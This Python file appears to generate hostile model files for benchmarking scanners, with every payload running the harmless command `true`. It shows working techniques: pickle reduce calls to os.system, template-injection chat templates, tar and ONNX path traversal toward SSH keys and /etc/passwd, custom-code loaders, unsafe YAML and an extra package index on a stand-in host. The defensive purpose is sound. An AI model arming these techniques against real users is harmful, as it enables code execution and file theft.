"""Hostile files made with real libraries, for comparing scanners: nothing here is ever loaded, and what a payload would
run is `true`. Each is what a person who knows the format would try first, and does not hide it further.
"""

import io
import json
import os
import pickle
import tarfile
import zipfile

import gguf
import joblib
import numpy as np
import onnx
import skops.io
from onnx import TensorProto, helper
from onnx.external_data_helper import set_external_data
from sklearn.linear_model import LogisticRegression

import data
from models import COMPRESSIONS, Library, Models


class Payload:
    def __reduce__(self):
        return os.system, ("true",)


def pickles(library: Library) -> None:
    model = LogisticRegression().fit(data.rows, data.species)
    model.note = Payload()
    library.pickle("attribute.pkl", model)
    library.joblib("attribute.joblib", model)
    for name, how in COMPRESSIONS.items():
        library.joblib(f"attribute-{name}.joblib", model, compress=how)
    np.save(library.path("objects.npy"), np.array([Payload()], dtype=object), allow_pickle=True)
    np.savez(library.path("objects.npz"), weights=data.rows, notes=np.array([Payload()], dtype=object))
    np.savez_compressed(library.path("objects-compressed.npz"), notes=np.array([Payload()], dtype=object))


def archives(library: Library) -> None:
    content = pickle.dumps(Payload())
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("model.pkl", content)
    with zipfile.ZipFile(library.path("nested.zip"), "w") as archive:
        archive.writestr("model.zip", inner.getvalue())
    with zipfile.ZipFile(library.path("packed.zip"), "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("weights/model.joblib", content)
    with tarfile.open(library.path("model.tar.gz"), "w:gz") as archive:
        member = tarfile.TarInfo("model.pkl")
        member.size = len(content)
        archive.addfile(member, io.BytesIO(content))
    with tarfile.open(library.path("climbing.tar"), "w") as archive:
        member = tarfile.TarInfo("../../.ssh/authorized_keys")
        member.size = 3
        archive.addfile(member, io.BytesIO(b"key"))


TEMPLATE = "{{ ''.__class__.__mro__[1].__subclasses__()[104].__init__.__globals__['sys'].modules['os'].popen('true') }}"


def templates(library: Library) -> None:
    writer = gguf.GGUFWriter(library.path("template.gguf"), "llama")
    writer.add_context_length(16)
    writer.add_chat_template(TEMPLATE)
    writer.add_tensor("weight", np.zeros((4, 4), np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    settings = {"model_max_length": 8, "tokenizer_class": "PreTrainedTokenizerFast", "chat_template": TEMPLATE}
    library.path("template/tokenizer_config.json").write_text(json.dumps(settings))


def graphs(library: Library) -> None:
    outside = helper.make_tensor("w", TensorProto.FLOAT, [2], np.zeros(2, np.float32).tobytes(), raw=True)
    set_external_data(outside, location="../../../etc/passwd", offset=0, length=8)
    outside.ClearField("raw_data")
    value = helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])
    reads = helper.make_graph([helper.make_node("Identity", ["w"], ["y"])], "g", [], [value], [outside])
    library.path("external-path.onnx").write_bytes(helper.make_model(reads).SerializeToString())
    node = helper.make_node("PyOp", [], ["y"], domain="ai.onnx.contrib", code="import os; os.system('true')")
    runs = helper.make_graph([node], "g", [], [value])
    domains = [helper.make_opsetid("", 18), helper.make_opsetid("ai.onnx.contrib", 1)]
    library.path("python-operator.onnx").write_bytes(helper.make_model(runs, opset_imports=domains).SerializeToString())


def documents(library: Library) -> None:
    honest = io.BytesIO()
    skops.io.dump(LogisticRegression().fit(data.rows, data.species), honest)
    with zipfile.ZipFile(honest) as archive:
        schema = json.loads(archive.read("schema.json"))
    schema["content"] = {
        "__class__": "call", "__module__": "os", "__loader__": "FunctionNode", "__id__": 1,
        "content": {"module_path": "os", "function": "system"},
    }
    with zipfile.ZipFile(library.path("function.skops"), "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
    flavor = "flavors:\n  python_function:\n    loader_module: payload\n    code: code\n    data: model\n    env: conda.yaml\n"
    library.path("mlflow/MLmodel").write_text(flavor)
    library.path("mlflow/code/payload.py").write_text("import os\nos.system('true')\n")
    packages = "--extra-index-url http://packages.example.net/simple\nscikit-learn\ninternal-tools @ git+http://example.net/x.git\n"
    library.path("mlflow/requirements.txt").write_text(packages)
    settings = {"model_type": "custom", "auto_map": {"AutoModel": "modeling.Custom"}}
    library.path("hub/config.json").write_text(json.dumps(settings))
    library.path("hub/modeling.py").write_text("import os\nos.system('true')\n")
    library.path("conda.yaml").write_text("name: x\nvalue: !!python/object/apply:os.system ['true']\n")


def make(models: Models) -> None:
    library = models.of("classic")
    pickles(library)
    archives(library)
    templates(library)
    graphs(library)
    documents(library)
